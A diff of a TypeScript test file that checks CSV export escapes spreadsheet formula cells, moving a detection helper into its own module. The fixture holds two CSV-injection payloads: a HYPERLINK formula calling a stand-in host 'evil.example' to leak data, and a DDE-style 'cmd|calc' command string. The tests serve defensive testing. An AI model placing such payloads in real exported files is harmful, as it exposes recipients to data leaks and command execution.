@@ -8,14 +8,10 @@ import { describe, expect, it } from 'vitest';
 import { csvCell, csvLine } from '../../common/util/csv.js';
 import { parseCsv } from '../../main/storage/migrations/known-fingerprints.js';
 import { projectRoot } from '../support/daemon.js';
+import { formulaCells } from './csv-cells.js';
 
 const fixture = join(import.meta.dirname, 'fixtures/formula-sni.pcap');
 const SNI = ['=HYPERLINK("http://evil.example/?leak","open me")', '@SUM(1+9)*cmd|calc'];
-
-/** What a spreadsheet would run: a cell whose text starts with = + - @ tab or CR. */
-export function formulaCells(rows: string[][]): string[] {
-  return rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c));
-}
 
 describe('formula-safe CSV cells', () => {
   it('prefixes every OWASP formula start with a quote and quotes the cell', () => {
